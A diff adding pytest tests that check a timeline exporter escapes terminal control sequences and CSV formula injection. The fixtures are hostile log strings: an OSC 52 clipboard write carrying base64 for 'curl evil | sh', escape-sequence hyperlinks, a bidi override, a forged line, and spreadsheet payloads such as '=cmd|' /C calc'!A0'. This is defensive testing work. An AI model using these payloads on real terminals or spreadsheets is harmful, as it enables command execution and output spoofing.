@@ -83,3 +83,48 @@ def test_an_empty_timeline_gives_only_the_csv_header():
     empty = {"node": None, "timeline": []}
     assert {fmt: run(fmt, empty) for fmt in timeline.FORMATS} == {
         "table": "", "csv": "at,local,source,kind,summary,artifact,line,cursor\r\n", "jsonl": "", "timesketch": ""}
+
+
+#: a journal message as a hostile node can log it: an ANSI colour and screen clear (CSI), an OSC 8
+#: hyperlink and an OSC 52 clipboard write (ended by BEL / ST), a C1 CSI (0x9b), a CR that hides
+#: what came before, a bidi override, and a newline that would start a forged line in the table
+HOSTILE = ("\x1b[31mred\x1b[2J \x1b]8;;https://evil.example/\x07link\x1b]8;;\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\ "
+           "\x9b1m c1\rover \u202eesrever\n2026-01-01 forged line\tend")
+ROGUE = dict(RELOAD, summary=HOSTILE, source="journal\x1b[8m", evidence={"artifact": "journal/entries.jsonl",
+                                                                         "cursor": "=cmd|' /C calc'!A0"})
+
+
+def _raw_controls(text: str) -> set[str]:
+    return {c for c in text if (ord(c) < 0x20 and c not in "\t\n\r") or 0x7f <= ord(c) <= 0x9f
+            or c in "\u202e\u2028\u2029"}
+
+
+@pytest.mark.parametrize("fmt", list(timeline.FORMATS))
+def test_no_terminal_control_character_reaches_any_output(fmt):
+    text = run(fmt, {"node": "n\x1b]0;title\x07", "timeline": [ROGUE, DPKG]})
+    assert _raw_controls(text) == set()
+    assert "\r" not in text.replace("\r\n", "")  # only CSV's own line ends
+    if fmt == "table":
+        lines = text.splitlines()
+        assert len(lines) == 2  # the newline in the message did not start a forged line
+        assert lines[0].endswith("\\x1b[31mred\\x1b[2J \\x1b]8;;https://evil.example/\\x07link\\x1b]8;;\\x07 "
+                                 "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x1b\\ \\x9b1m c1\\x0dover \\u202eesrever"
+                                 "\\x0a2026-01-01 forged line\tend")
+    if fmt in ("jsonl", "timesketch"):  # JSON's own escapes: the value read back is the message as logged
+        first = json.loads(text.splitlines()[0])
+        assert first.get("summary", first.get("message")) == HOSTILE
+
+
+@pytest.mark.parametrize("cell, shown", [("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
+                                         ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
+                                         ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\tx", "'\tx"),
+                                         ("\r=1", "\\x0d=1"), ("a=1", "a=1"), ("", "")])
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(cell, shown):
+    rows = list(csv.DictReader(io.StringIO(run("csv", {"node": "n", "timeline": [dict(DPKG, summary=cell)]}))))
+    assert rows[0]["summary"] == shown
+    assert rows[0]["at"] == DPKG["at"] and rows[0]["line"] == "7"  # plain values are untouched
+
+
+def test_every_csv_cell_goes_through_the_one_helper():
+    rows = list(csv.DictReader(io.StringIO(run("csv", {"node": "n", "timeline": [ROGUE]}))))
+    assert rows[0]["cursor"] == "'=cmd|' /C calc'!A0" and rows[0]["source"] == "journal\\x1b[8m"
